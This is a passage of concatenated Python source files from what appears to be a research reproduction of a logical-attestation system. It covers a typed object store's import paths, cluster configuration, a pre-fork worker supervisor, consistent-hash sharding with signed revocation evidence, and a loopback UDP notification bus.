        if fast:
            store._records = [dict(r) for r in records]
        else:
            for record in records:
                store.put(record)
        return store

    @staticmethod
    def import_image(image: StoreImage, schema: Schema,
                     credentials: Optional[CredentialSet] = None,
                     certifier: str = "TypeCertifier",
                     session=None) -> "TypedObjectStore":
        """Deserialize, choosing the fast or slow path.

        Fast path: the downloader proves ``certifier says
        typesafe(<producer>)`` — the producer upheld the schema, so
        per-record validation is skipped (transitive integrity, §4).
        The proof can come from a local wallet (``credentials``) or, in
        the service deployment, from an attestation-API ``session``
        (:class:`repro.api.client.ClientSession`) whose labelstore is
        asked to discharge the goal remotely.
        Slow path: validate every record of untrusted input.
        """
        body = TypedObjectStore._decode_image(image, schema)
        store = TypedObjectStore(schema, producer=image.producer)
        goal_text = f"{certifier} says typesafe({image.producer})"
        fast = False
        if session is not None:
            fast = session.prove(goal_text)
        elif credentials is not None:
            fast = credentials.try_bundle_for(parse(goal_text)) is not None
        return TypedObjectStore._populate(store, body["records"], fast)

    @staticmethod
    def import_guarded(image: StoreImage, schema: Schema, kernel,
                       pid: int, resource,
                       bundle=None) -> "TypedObjectStore":
        """The policy-plane deployment: the fast path is a *kernel*
        verdict under the declared store PolicySet, not an app-local
        wallet check.

        ``resource`` is the published store resource (see
        :func:`publish_store`); the importing process ``pid`` is the
        subject.  When no ``bundle`` is supplied, a proof is searched in
        the subject's own labelstore.  A deny is not an error — it
        selects the slow path, exactly like a missing credential did in
        the imperative deployment (denial is data; ask the kernel's
        ``explain`` why).
        """
        body = TypedObjectStore._decode_image(image, schema)
        store = TypedObjectStore(schema, producer=image.producer)
        if bundle is None:
            bundle = _wallet_proof(kernel, pid, resource)
        decision = kernel.authorize(pid, STORE_IMPORT_OPERATION,
                                    resource.resource_id, bundle)
        return TypedObjectStore._populate(store, body["records"],
                                          bool(decision.allow))
