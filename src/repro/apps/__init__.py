"""The paper's applications (§4), built on logical attestation."""

from repro.apps.fauxbook import FauxbookStack, WebFramework
from repro.apps.movieplayer import ContentServer, MoviePlayer
from repro.apps.objectstore import Schema, StoreImage, TypedObjectStore
from repro.apps.notabot import Email, KeyboardDriver, MailClient, SpamClassifier
from repro.apps.trudocs import Document, TruDocs, UsePolicy
from repro.apps.certipics import CertiPics, Image, TransformLog, verify_log
from repro.apps.bgp import BGPSpeaker, BGPVerifier

__all__ = [
    "FauxbookStack", "WebFramework",
    "ContentServer", "MoviePlayer",
    "Schema", "StoreImage", "TypedObjectStore",
    "Email", "KeyboardDriver", "MailClient", "SpamClassifier",
    "Document", "TruDocs", "UsePolicy",
    "CertiPics", "Image", "TransformLog", "verify_log",
    "BGPSpeaker", "BGPVerifier",
]
