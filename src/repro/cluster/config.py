"""Cluster configuration: one picklable document for the whole fleet.

A :class:`ClusterConfig` is everything a worker process needs to boot —
the shared storage directory, the shared serving address, the kernel
construction parameters (which must match across every replica for
attested identities to line up), and the tuning knobs of the runtime
(poll cadence, heartbeat cadence, restart backoff).

It is deliberately a flat dataclass of primitives so it crosses a
``multiprocessing`` *spawn* boundary by ordinary pickling — no open
sockets, kernels, or callables ride along.  Anything non-picklable
(the bootstrap callback, bus sockets, the kernels themselves) lives in
the supervisor or the worker, never here.
"""

from __future__ import annotations

from dataclasses import asdict, dataclass
from typing import Any, Dict, Optional

#: The writer is always the fleet's worker 0: the one process holding
#: the exclusive WAL lock.  Every other index is a follower.
WRITER_INDEX = 0

#: Where workers publish their private (per-process) addresses inside
#: the shared directory, and where the writer publishes its own.
WORKERS_DIR = "workers"
WRITER_ADDR = "writer.addr"


@dataclass
class ClusterConfig:
    """The fleet's shared, spawn-safe configuration document."""

    #: Shared storage directory: one WAL + snapshot every worker reads,
    #: the writer's lockfile, the bus registry, and the address files.
    directory: str
    #: Total worker processes (writer included).  1 is a valid fleet.
    workers: int = 2
    host: str = "127.0.0.1"
    #: The shared ``SO_REUSEPORT`` serving port; 0 lets the supervisor
    #: reserve an ephemeral port and rewrite this field before forking.
    port: int = 0
    #: Threads per worker's socket server.
    server_workers: int = 8

    # -- kernel construction (must match across every replica) ---------
    key_seed: Optional[int] = 1001
    key_bits: int = 512
    #: False disables every worker's decision cache — the guard-heavy
    #: mode the Figure 12b benchmark uses so the *server* dominates.
    decision_cache: bool = True

    # -- journal / tailing ----------------------------------------------
    sync_every: int = 1
    #: Compaction cadence for the writer.  The cluster default is None
    #: (no compaction): a log reset while a follower lags would force a
    #: full replica rebuild, so compaction is an explicit operator
    #: choice in cluster mode.
    snapshot_every: Optional[int] = None
    #: Follower fallback poll interval (seconds) when no bus nudge
    #: arrives; nudges make the common-case propagation much faster.
    poll_interval: float = 0.05

    # -- supervision -----------------------------------------------------
    #: ``multiprocessing`` start method: "spawn" is the safe default
    #: (no inherited locks/threads); "fork" is faster to boot and fine
    #: for short-lived test fleets.
    start_method: str = "spawn"
    heartbeat_interval: float = 0.25
    backoff_base: float = 0.1
    backoff_factor: float = 2.0
    backoff_cap: float = 5.0
    #: How long a worker must stay alive for its backoff to reset.
    backoff_reset_after: float = 5.0
    #: Request coalescing in each worker's service front-end.
    coalesce: bool = False

    def kernel_kwargs(self) -> Dict[str, Any]:
        """The :class:`~repro.kernel.kernel.NexusKernel` construction
        kwargs every worker must share."""
        return {"key_seed": self.key_seed, "key_bits": self.key_bits}

    def to_dict(self) -> Dict[str, Any]:
        """A JSON-safe dump (docs, logs, test assertions)."""
        return asdict(self)

    @classmethod
    def from_dict(cls, document: Dict[str, Any]) -> "ClusterConfig":
        """Rebuild from :meth:`to_dict` output."""
        return cls(**document)
