"""The pre-fork supervisor: reserve, bootstrap, fork, heartbeat, restart.

The supervisor is the fleet's parent process.  Its lifecycle:

1. **reserve** — when the config asks for an ephemeral shared port, it
   binds (without listening) an ``SO_REUSEPORT`` socket and keeps it,
   so the port number is fixed before any worker exists and stays
   reserved across worker restarts;
2. **bootstrap** — if the shared directory is empty and a bootstrap
   callback was given, it runs the callback against a temporary
   exclusive-writer kernel (seed principals, resources, goals), then
   releases the WAL lock.  This happens *in the parent, before any
   fork*, so the callback can be any closure — nothing is pickled;
3. **fork** — one :func:`~repro.cluster.worker.run_worker` process per
   fleet index through the configured ``multiprocessing`` start method
   (``spawn`` by default: no inherited locks or threads);
4. **heartbeat** — a monitor thread probes each worker's private
   address with a real HTTP request on a cadence; a dead process (or a
   wedged one that stops answering) is killed and restarted with
   exponential backoff, which resets once a worker stays up.

The writer's exclusive ``flock`` is released by the OS the instant a
writer dies, so a restarted writer acquires the lock, restores from
the shared WAL, and the fleet heals without operator action.
"""

from __future__ import annotations

import multiprocessing
import os
import socket
import threading
import time
from typing import Callable, Dict, Optional, Tuple

from repro.cluster.config import ClusterConfig, WORKERS_DIR
from repro.cluster.worker import run_worker
from repro.errors import ClusterError
from repro.kernel.kernel import NexusKernel
from repro.storage.backend import FileBackend

#: How long :meth:`Supervisor.start` waits for the fleet to answer.
READY_TIMEOUT = 30.0

_HEARTBEAT_REQUEST = (b"GET /cluster/worker HTTP/1.1\r\n"
                      b"Host: cluster\r\nContent-Length: 0\r\n\r\n")


def bootstrap_directory(config: ClusterConfig,
                        bootstrap: Callable[[NexusKernel], None]) -> None:
    """Seed an empty shared directory through a temporary writer kernel.

    No-op when the directory already holds state (a restarted fleet
    must not re-seed).  The temporary kernel takes and releases the
    exclusive WAL lock, so it must run before the real writer starts.
    """
    probe = FileBackend(config.directory, read_only=True)
    empty = probe.is_empty()
    probe.close()
    if not empty:
        return
    backend = FileBackend(config.directory, exclusive=True)
    try:
        kernel = NexusKernel(**config.kernel_kwargs())
        kernel.attach_storage(backend, sync_every=config.sync_every,
                              snapshot_every=config.snapshot_every)
        bootstrap(kernel)
    finally:
        backend.close()


class Supervisor:
    """Owns the fleet: N worker processes over one shared directory."""

    def __init__(self, config: ClusterConfig, *,
                 bootstrap: Optional[Callable[[NexusKernel], None]]
                 = None):
        self.config = config
        self._bootstrap = bootstrap
        self._reservation: Optional[socket.socket] = None
        self._processes: Dict[int, multiprocessing.Process] = {}
        self._failures: Dict[int, int] = {}
        self._started_at: Dict[int, float] = {}
        self._restart_due: Dict[int, float] = {}
        self._monitor: Optional[threading.Thread] = None
        self._stopping = threading.Event()
        self._lock = threading.Lock()
        self.restarts = 0

    # -- lifecycle -------------------------------------------------------

    def start(self, ready_timeout: float = READY_TIMEOUT
              ) -> Tuple[str, int]:
        """Reserve, bootstrap, fork the fleet, wait until every worker
        answers; returns the shared (host, port)."""
        config = self.config
        if config.port == 0:
            config.port = self._reserve_port()
        if self._bootstrap is not None:
            bootstrap_directory(config, self._bootstrap)
        context = multiprocessing.get_context(config.start_method)
        # The writer first: followers restore from the medium the
        # writer initializes, and forward to the address it publishes.
        for index in range(config.workers):
            self._spawn(context, index)
            if index == 0:
                self._wait_ready(index, ready_timeout)
        for index in range(1, config.workers):
            self._wait_ready(index, ready_timeout)
        self._monitor = threading.Thread(target=self._monitor_loop,
                                         name="nexus-supervisor",
                                         daemon=True)
        self._monitor.start()
        return (config.host, config.port)

    def _reserve_port(self) -> int:
        if not hasattr(socket, "SO_REUSEPORT"):
            raise ClusterError("SO_REUSEPORT is not available on this "
                               "platform")
        reservation = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        reservation.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        reservation.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        reservation.bind((self.config.host, 0))
        # Deliberately never listens: a bound, non-listening socket
        # keeps the port out of the ephemeral pool but receives no
        # connections — the workers' listeners get them all.
        self._reservation = reservation
        return reservation.getsockname()[1]

    def _spawn(self, context, index: int) -> None:
        process = context.Process(target=run_worker,
                                  args=(self.config, index),
                                  name=f"nexus-worker-{index}",
                                  daemon=True)
        process.start()
        with self._lock:
            self._processes[index] = process
            self._started_at[index] = time.monotonic()
            self._restart_due.pop(index, None)

    # -- health ----------------------------------------------------------

    def worker_address(self, index: int) -> Tuple[str, int]:
        """A worker's private (host, port) from its address file."""
        path = os.path.join(self.config.directory, WORKERS_DIR,
                            f"{index}.addr")
        try:
            with open(path) as handle:
                host, port, _pid = handle.read().split()
        except (OSError, ValueError) as exc:
            raise ClusterError(
                f"worker {index} has not published an address") from exc
        return host, int(port)

    def worker_pid(self, index: int) -> int:
        """The OS pid of a worker process (fault-injection handle)."""
        with self._lock:
            process = self._processes.get(index)
        if process is None or process.pid is None:
            raise ClusterError(f"worker {index} is not running")
        return process.pid

    def _heartbeat(self, index: int) -> bool:
        """One real request against the worker's private server."""
        try:
            host, port = self.worker_address(index)
        except ClusterError:
            return False
        try:
            with socket.create_connection((host, port), timeout=1.0
                                          ) as conn:
                conn.sendall(_HEARTBEAT_REQUEST)
                conn.settimeout(1.0)
                return bool(conn.recv(1))
        except OSError:
            return False

    def _wait_ready(self, index: int, timeout: float) -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if self._heartbeat(index):
                return
            with self._lock:
                process = self._processes.get(index)
            if process is not None and not process.is_alive():
                raise ClusterError(
                    f"worker {index} exited during startup (exit code "
                    f"{process.exitcode})")
            time.sleep(0.02)
        raise ClusterError(f"worker {index} did not become ready "
                           f"within {timeout:.0f}s")

    # -- supervision -----------------------------------------------------

    def _monitor_loop(self) -> None:
        config = self.config
        context = multiprocessing.get_context(config.start_method)
        while not self._stopping.wait(config.heartbeat_interval):
            now = time.monotonic()
            for index in range(config.workers):
                with self._lock:
                    process = self._processes.get(index)
                    due = self._restart_due.get(index)
                if due is not None:
                    # In backoff: restart when the clock says so.
                    if now >= due and not self._stopping.is_set():
                        self._spawn(context, index)
                        self.restarts += 1
                    continue
                if process is not None and process.is_alive():
                    # Long-stable workers earn their backoff back.
                    with self._lock:
                        started = self._started_at.get(index, now)
                        if (self._failures.get(index)
                                and now - started
                                >= config.backoff_reset_after):
                            self._failures[index] = 0
                    continue
                # Dead: schedule the restart with exponential backoff.
                with self._lock:
                    failures = self._failures.get(index, 0)
                    self._failures[index] = failures + 1
                    delay = min(config.backoff_cap,
                                config.backoff_base
                                * (config.backoff_factor ** failures))
                    self._restart_due[index] = now + delay

    def wait_worker_ready(self, index: int,
                          timeout: float = READY_TIMEOUT) -> None:
        """Block until worker ``index`` answers its heartbeat — what a
        fault-injection test calls after killing it."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self._lock:
                process = self._processes.get(index)
            if (process is not None and process.is_alive()
                    and self._heartbeat(index)):
                return
            time.sleep(0.02)
        raise ClusterError(f"worker {index} was not restarted within "
                           f"{timeout:.0f}s")

    # -- teardown --------------------------------------------------------

    def stop(self) -> None:
        """Terminate the fleet and release the reservation."""
        self._stopping.set()
        if self._monitor is not None:
            self._monitor.join(timeout=5.0)
        with self._lock:
            processes = list(self._processes.values())
        for process in processes:
            if process.is_alive():
                process.terminate()
        deadline = time.monotonic() + 5.0
        for process in processes:
            process.join(timeout=max(0.1, deadline - time.monotonic()))
            if process.is_alive():
                process.kill()
                process.join(timeout=1.0)
        if self._reservation is not None:
            self._reservation.close()
            self._reservation = None

    def __enter__(self) -> "Supervisor":
        self.start()
        return self

    def __exit__(self, *_exc) -> None:
        self.stop()
