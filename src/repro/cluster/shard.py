"""Consistent-hash sharding of principals across federated kernels.

Scale-out along the second axis: where the worker fleet replicates
*one* kernel's state, a shard set **partitions** principals across N
independent kernels, federated pairwise through the credential-bundle
machinery (§2.4 applied between machines):

* a :class:`HashRing` (vnode consistent hashing) maps each principal
  name to its **home shard** — the kernel that mints and stores its
  credentials.  Adding or removing a shard remaps only the keys on the
  affected arcs, never the whole population;
* access to a resource on a *different* shard travels as a signed
  credential bundle: exported at home, admitted at the target against
  the home shard's pinned root key, authorized there like any local
  principal — inter-shard trust is exactly PR-4's federation, never a
  shared secret;
* **revocation evidence** propagates: the shard that revokes a peer
  externalizes an NK-signed ``revoked("<peer_id>")`` label and hands
  the chain to its siblings, each of which verifies it against the
  announcing shard's pinned root key before dropping the peer locally
  — no shard trusts an unsigned "please revoke" message.
"""

from __future__ import annotations

import bisect
import hashlib
from typing import Any, Dict, Iterable, List, Tuple

from repro.crypto.certs import CertificateChain
from repro.errors import ClusterError, SignatureError, UntrustedPeer
from repro.kernel.kernel import NexusKernel


class HashRing:
    """A consistent-hash ring with virtual nodes.

    Each node is hashed ``vnodes`` times onto a 64-bit circle; a key
    lands on the first vnode clockwise of its own hash.  More vnodes
    mean a smoother split (at ring-build cost).
    """

    def __init__(self, nodes: Iterable[str] = (), vnodes: int = 64):
        if vnodes < 1:
            raise ClusterError("a ring needs at least one vnode per node")
        self.vnodes = vnodes
        self._ring: List[Tuple[int, str]] = []
        self._keys: List[int] = []
        self._nodes: set = set()
        for node in nodes:
            self.add(node)

    @staticmethod
    def _hash(value: str) -> int:
        digest = hashlib.sha256(value.encode()).digest()
        return int.from_bytes(digest[:8], "big")

    def _rebuild(self) -> None:
        self._ring.sort()
        self._keys = [point for point, _ in self._ring]

    def add(self, node: str) -> None:
        """Place a node's vnodes on the ring."""
        if node in self._nodes:
            return
        self._nodes.add(node)
        for index in range(self.vnodes):
            self._ring.append((self._hash(f"{node}#{index}"), node))
        self._rebuild()

    def remove(self, node: str) -> None:
        """Withdraw a node; its arcs fall to the clockwise successors."""
        if node not in self._nodes:
            return
        self._nodes.discard(node)
        self._ring = [(point, owner) for point, owner in self._ring
                      if owner != node]
        self._rebuild()

    @property
    def nodes(self) -> List[str]:
        return sorted(self._nodes)

    def node_for(self, key: str) -> str:
        """The node owning ``key``'s arc."""
        if not self._ring:
            raise ClusterError("the ring has no nodes")
        point = self._hash(key)
        index = bisect.bisect_right(self._keys, point)
        if index == len(self._ring):
            index = 0
        return self._ring[index][1]


class ShardPrincipal:
    """One principal, pinned to its home shard."""

    def __init__(self, name: str, shard: str, pid: int, principal: str):
        self.name = name
        self.shard = shard
        self.pid = pid
        self.principal = principal


class ShardedCluster:
    """N federated kernels behind one principal-routing ring.

    ``shards`` maps shard names to kernels (typically built with
    distinct ``key_seed`` values so their platform identities differ).
    Construction cross-registers every pair's platform root key — each
    shard pins every sibling under the sibling's shard name.
    """

    def __init__(self, shards: Dict[str, NexusKernel], vnodes: int = 64):
        if not shards:
            raise ClusterError("a sharded cluster needs at least one "
                               "shard")
        self.shards = dict(shards)
        self.ring = HashRing(self.shards, vnodes=vnodes)
        self._admins: Dict[str, int] = {}
        for name, kernel in self.shards.items():
            self._admins[name] = kernel.create_process(
                f"shard-admin-{name}").pid
            for other_name, other in self.shards.items():
                if other_name == name:
                    continue
                identity = other.platform_identity()
                kernel.add_peer(other_name, identity["root_key"],
                                platform=identity["platform"])

    # -- routing ---------------------------------------------------------

    def home_of(self, principal_name: str) -> str:
        """The shard a principal's credentials live on."""
        return self.ring.node_for(principal_name)

    def kernel_of(self, shard: str) -> NexusKernel:
        try:
            return self.shards[shard]
        except KeyError:
            raise ClusterError(f"no shard named {shard!r}") from None

    def create_principal(self, name: str,
                         statements: Iterable[str] = ()
                         ) -> ShardPrincipal:
        """Mint a principal on its ring-assigned home shard and say its
        credentials there."""
        shard = self.home_of(name)
        kernel = self.shards[shard]
        process = kernel.create_process(name)
        for statement in statements:
            kernel.sys_say(process.pid, statement)
        return ShardPrincipal(name, shard, process.pid,
                              str(process.principal))

    # -- cross-shard authorization --------------------------------------

    def authorize(self, subject: ShardPrincipal, operation: str,
                  shard: str, resource: Any, proof=None):
        """Authorize ``subject`` against a resource on ``shard``.

        Same-shard requests go straight to the guard; cross-shard
        requests export the subject's credential bundle at home and
        admit it at the target (idempotently — warm admissions replay
        from the digest cache) before authorizing there.
        """
        target = self.kernel_of(shard)
        resource_id = self._resolve(target, resource)
        if shard == subject.shard:
            from repro.core.attestation import kernel_wallet_bundle
            bundle = proof
            if bundle is None:
                bundle = kernel_wallet_bundle(
                    target, subject.pid, operation,
                    target.resources.get(resource_id))
            return target.authorize(subject.pid, operation, resource_id,
                                    bundle)
        home = self.kernel_of(subject.shard)
        bundle = home.export_credentials(subject.pid)
        return target.authorize_remote(bundle, operation, resource_id,
                                       proof)

    @staticmethod
    def _resolve(kernel: NexusKernel, resource: Any) -> int:
        if isinstance(resource, int):
            return resource
        if isinstance(resource, str):
            return kernel.resources.lookup(resource).resource_id
        return resource.resource_id

    # -- revocation-evidence propagation --------------------------------

    def revoke_peer(self, announcer: str, peer_id: str
                    ) -> Dict[str, Any]:
        """Revoke a peer on the announcing shard and build the signed
        evidence its siblings will demand.

        Returns the notice document: the announcer's name, the revoked
        peer id, and the NK-signed certificate chain for the
        ``revoked("<peer_id>")`` label.  Pass it to
        :meth:`apply_revocation` on the siblings (or let
        :meth:`revoke_everywhere` do both steps).
        """
        kernel = self.kernel_of(announcer)
        label = kernel.sys_say(self._admins[announcer],
                               f'revoked("{peer_id}")')
        chain = kernel.externalize_label(label)
        kernel.revoke_peer(peer_id)
        return {"announcer": announcer, "peer_id": peer_id,
                "chain": chain.to_document()}

    def apply_revocation(self, shard: str, notice: Dict[str, Any]
                         ) -> bool:
        """Verify one revocation notice and apply it to ``shard``.

        The chain must verify and be rooted at the *pinned* root key of
        the announcing shard — evidence signed by anyone else (or by an
        unregistered platform) is refused.  Returns True when the peer
        was known and dropped, False when this shard never trusted it
        (nothing to do).
        """
        kernel = self.kernel_of(shard)
        announcer = notice["announcer"]
        if announcer == shard:
            return False
        pinned = kernel.peers.by_name(announcer)
        if pinned is None:
            raise UntrustedPeer(
                f"shard {shard!r} has no pinned key for announcer "
                f"{announcer!r}")
        chain = CertificateChain.from_document(notice["chain"])
        chain.verify()
        if chain.root_key != pinned.root_key:
            raise SignatureError(
                f"revocation notice from {announcer!r} is not rooted "
                f"at that shard's pinned platform key")
        peer_id = notice["peer_id"]
        if f'revoked("{peer_id}")' not in chain.leaf().statement:
            raise SignatureError(
                "revocation notice chain does not attest the claimed "
                "peer id")
        if kernel.peers.get(peer_id) is None:
            return False
        kernel.revoke_peer(peer_id)
        return True

    def revoke_everywhere(self, announcer: str, peer_id: str
                          ) -> Dict[str, bool]:
        """Announce once, propagate to every sibling; returns which
        shards dropped the peer."""
        notice = self.revoke_peer(announcer, peer_id)
        applied = {announcer: True}
        for shard in self.shards:
            if shard == announcer:
                continue
            try:
                applied[shard] = self.apply_revocation(shard, notice)
            except UntrustedPeer:
                applied[shard] = False
        return applied
