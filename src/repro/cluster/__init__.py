"""The cluster runtime: pre-fork workers over one shared WAL.

Scale-out for the attestation service along two axes:

* **replication** — a :class:`~repro.cluster.supervisor.Supervisor`
  forks N :class:`~repro.cluster.worker.ClusterWorker` processes that
  all serve one address (``SO_REUSEPORT``).  Worker 0 is the single
  writer (exclusive WAL lock); every other worker tails the shared log
  into a :class:`~repro.cluster.replica.KernelReplica` and forwards
  mutations to the writer over the ordinary wire protocol, nudged by
  the UDP :mod:`~repro.cluster.bus` so revocations and policy changes
  reach every sibling's decision cache promptly;
* **partitioning** — :class:`~repro.cluster.shard.ShardedCluster`
  consistent-hashes principals across N federated kernels, with
  credential bundles as inter-shard trust and signed revocation
  evidence propagated between shards.
"""

from repro.cluster.bus import BusPublisher, BusSubscriber
from repro.cluster.config import ClusterConfig, WRITER_INDEX
from repro.cluster.replica import KernelReplica
from repro.cluster.service import (ClusterService, FORWARDED_KINDS,
                                   read_writer_address)
from repro.cluster.shard import HashRing, ShardedCluster, ShardPrincipal
from repro.cluster.supervisor import Supervisor, bootstrap_directory
from repro.cluster.worker import ClusterWorker, run_worker

__all__ = [
    "BusPublisher", "BusSubscriber",
    "ClusterConfig", "WRITER_INDEX",
    "KernelReplica",
    "ClusterService", "FORWARDED_KINDS", "read_writer_address",
    "HashRing", "ShardedCluster", "ShardPrincipal",
    "Supervisor", "bootstrap_directory",
    "ClusterWorker", "run_worker",
]
