"""The epoch bus: how the writer nudges follower replicas.

Followers discover new WAL records by tailing the shared log, but a
pure poll loop trades propagation latency against wasted wakeups.  The
bus removes the trade: every follower binds a loopback UDP socket and
registers its port as a file under ``<directory>/bus/``; the writer's
journal ``on_append`` hook sends a tiny datagram — ``NXB1 <seq>`` — to
every registered port after each record lands.  A follower sleeping in
:meth:`BusSubscriber.wait` wakes immediately and polls the log.

The bus is an *accelerator*, never a correctness dependency: datagrams
are unacknowledged and may be lost (a dead follower's stale
registration just swallows sends), so followers keep their fallback
poll timeout.  Everything durable travels through the WAL; the bus
carries only "look now" and the sequence number that prompted it.
"""

from __future__ import annotations

import os
import socket
import time
from typing import List, Optional

#: Datagram magic; anything else received on the bus port is ignored.
BUS_MAGIC = b"NXB1"

#: Registry directory under the shared storage directory.
BUS_DIR = "bus"

#: How long a publisher trusts its cached registry listing before
#: re-reading the directory (seconds).
REGISTRY_TTL = 0.5

#: Generous upper bound for one bus datagram.
_MAX_DATAGRAM = 64


def _bus_dir(directory: str) -> str:
    path = os.path.join(directory, BUS_DIR)
    os.makedirs(path, exist_ok=True)
    return path


class BusSubscriber:
    """One follower's end of the bus: a bound UDP socket plus its
    registration file.

    ``name`` distinguishes this subscriber's registration (workers use
    their fleet index + pid, so a restarted worker's fresh registration
    replaces its predecessor's).
    """

    def __init__(self, directory: str, name: str):
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        self._path = os.path.join(_bus_dir(directory), f"{name}.port")
        tmp_path = self._path + ".tmp"
        with open(tmp_path, "w") as handle:
            handle.write(f"{self.port}\n")
        os.replace(tmp_path, self._path)

    def wait(self, timeout: float) -> Optional[int]:
        """Block until a nudge arrives (or ``timeout`` elapses).

        Drains every queued datagram and returns the highest sequence
        number seen, or None on timeout/garbage — either way the caller
        polls the log next, so a lost or mangled nudge only costs
        latency.
        """
        self._socket.settimeout(timeout)
        best: Optional[int] = None
        try:
            data, _ = self._socket.recvfrom(_MAX_DATAGRAM)
            best = self._decode(data)
        except (socket.timeout, OSError):
            return best
        # Drain whatever else queued while we slept — one wakeup, one
        # poll, however many appends happened.
        self._socket.settimeout(0)
        while True:
            try:
                data, _ = self._socket.recvfrom(_MAX_DATAGRAM)
            except (BlockingIOError, socket.timeout, OSError):
                break
            seq = self._decode(data)
            if seq is not None and (best is None or seq > best):
                best = seq
        return best

    @staticmethod
    def _decode(data: bytes) -> Optional[int]:
        if not data.startswith(BUS_MAGIC + b" "):
            return None
        try:
            return int(data[len(BUS_MAGIC) + 1:])
        except ValueError:
            return None

    def close(self) -> None:
        """Deregister and release the socket."""
        try:
            os.unlink(self._path)
        except OSError:
            pass
        self._socket.close()


class BusPublisher:
    """The writer's end: fan one ``append`` out to every subscriber.

    Wired to :attr:`repro.storage.wal.Journal.on_append`, so it runs on
    the writer's mutation path — the registry listing is cached for
    :data:`REGISTRY_TTL` to keep that path to one ``sendto`` per
    follower, and every send failure is swallowed (the WAL is the
    source of truth; the bus only shortens the follower's nap).
    """

    def __init__(self, directory: str):
        self._dir = _bus_dir(directory)
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._ports: List[int] = []
        self._listed_at = 0.0
        self.published = 0

    def _refresh(self) -> None:
        now = time.monotonic()
        if now - self._listed_at < REGISTRY_TTL:
            return
        ports: List[int] = []
        try:
            names = os.listdir(self._dir)
        except OSError:
            names = []
        for name in names:
            if not name.endswith(".port"):
                continue
            try:
                with open(os.path.join(self._dir, name)) as handle:
                    ports.append(int(handle.read().strip()))
            except (OSError, ValueError):
                continue
        self._ports = ports
        self._listed_at = now

    def publish(self, seq: int) -> None:
        """Nudge every registered subscriber that ``seq`` just landed."""
        self._refresh()
        payload = BUS_MAGIC + b" " + str(seq).encode()
        for port in self._ports:
            try:
                self._socket.sendto(payload, ("127.0.0.1", port))
            except OSError:
                continue
        self.published += 1

    def close(self) -> None:
        self._socket.close()
