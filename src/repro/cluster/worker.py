"""One cluster worker: a kernel (writer or replica) behind two servers.

A :class:`ClusterWorker` composes the whole per-process stack:

* **writer** (fleet index 0) — opens the shared directory with the
  exclusive WAL lock (attaching fresh storage if the directory is
  empty, restoring otherwise), wires the journal's ``on_append`` hook
  to a :class:`~repro.cluster.bus.BusPublisher`, and publishes its
  private address at ``<directory>/writer.addr`` for followers to
  forward mutations to;
* **follower** — boots a :class:`~repro.cluster.replica.KernelReplica`
  from the same directory (read-only), registers a
  :class:`~repro.cluster.bus.BusSubscriber`, and runs a tail thread
  that replays new WAL records on every nudge (or poll timeout);
* both roles serve the full API on the **shared address** with
  ``SO_REUSEPORT`` (the OS load-balances client connections across the
  fleet) *and* on a **private ephemeral address** published under
  ``<directory>/workers/<index>.addr`` — the supervisor heartbeats it,
  tests target specific workers through it, and the writer's copy is
  what followers forward to.

The worker runs equally well inside a thread (in-process tests, where
the coverage tracer can see it) or as the body of a spawned process
(:func:`run_worker`, the supervisor's target).
"""

from __future__ import annotations

import os
import signal
import threading
from typing import Optional

from repro.cluster.bus import BusPublisher, BusSubscriber
from repro.cluster.config import (ClusterConfig, WORKERS_DIR, WRITER_ADDR,
                                  WRITER_INDEX)
from repro.cluster.replica import KernelReplica
from repro.cluster.service import ClusterService, write_address_file
from repro.errors import ClusterError
from repro.kernel.kernel import NexusKernel
from repro.net.server import SocketServer
from repro.storage.backend import FileBackend


class ClusterWorker:
    """One member of the fleet, ready to :meth:`start`/:meth:`stop`."""

    def __init__(self, config: ClusterConfig, index: int):
        self.config = config
        self.index = index
        self.role = "writer" if index == WRITER_INDEX else "follower"
        self.service: Optional[ClusterService] = None
        self.replica: Optional[KernelReplica] = None
        self.server: Optional[SocketServer] = None
        self.private_server: Optional[SocketServer] = None
        self._backend: Optional[FileBackend] = None
        self._publisher: Optional[BusPublisher] = None
        self._subscriber: Optional[BusSubscriber] = None
        self._tail_thread: Optional[threading.Thread] = None
        self._stopping = threading.Event()

    # -- construction ----------------------------------------------------

    def _build_writer(self) -> ClusterService:
        config = self.config
        backend = FileBackend(config.directory, exclusive=True)
        self._backend = backend
        if backend.is_empty():
            kernel = NexusKernel(**config.kernel_kwargs())
            kernel.attach_storage(backend,
                                  sync_every=config.sync_every,
                                  snapshot_every=config.snapshot_every)
        else:
            kernel = NexusKernel.restore(
                backend, sync_every=config.sync_every,
                snapshot_every=config.snapshot_every,
                **config.kernel_kwargs())
        self._publisher = BusPublisher(config.directory)
        kernel._persistence.journal.on_append = self._publisher.publish
        if not config.decision_cache:
            kernel.decision_cache.enabled = False
        return ClusterService(kernel, role="writer",
                              directory=config.directory,
                              worker_index=self.index,
                              coalesce=config.coalesce)

    def _build_follower(self) -> ClusterService:
        config = self.config
        replica = KernelReplica(config.directory,
                                **config.kernel_kwargs())
        if not config.decision_cache:
            replica.kernel.decision_cache.enabled = False
        self.replica = replica
        self._subscriber = BusSubscriber(
            config.directory, f"worker-{self.index}-{os.getpid()}")
        return ClusterService(replica=replica, role="follower",
                              directory=config.directory,
                              worker_index=self.index,
                              coalesce=config.coalesce)

    # -- lifecycle -------------------------------------------------------

    def start(self) -> tuple:
        """Boot the kernel side, start both servers, publish addresses;
        returns the shared (host, port)."""
        config = self.config
        if config.port <= 0:
            raise ClusterError("a cluster worker needs a concrete "
                               "shared port (the supervisor reserves "
                               "one when config.port is 0)")
        if self.role == "writer":
            self.service = self._build_writer()
        else:
            self.service = self._build_follower()
        router = self.service.cluster_router()
        # Private server first: followers need the writer's address
        # file before the shared address accepts any mutation.
        self.private_server = SocketServer(router, host=config.host,
                                           port=0,
                                           workers=config.server_workers,
                                           binary=self.service.handle_binary)
        private_host, private_port = self.private_server.start()
        workers_dir = os.path.join(config.directory, WORKERS_DIR)
        os.makedirs(workers_dir, exist_ok=True)
        write_address_file(os.path.join(workers_dir, f"{self.index}.addr"),
                           private_host, private_port)
        if self.role == "writer":
            write_address_file(os.path.join(config.directory, WRITER_ADDR),
                               private_host, private_port)
        else:
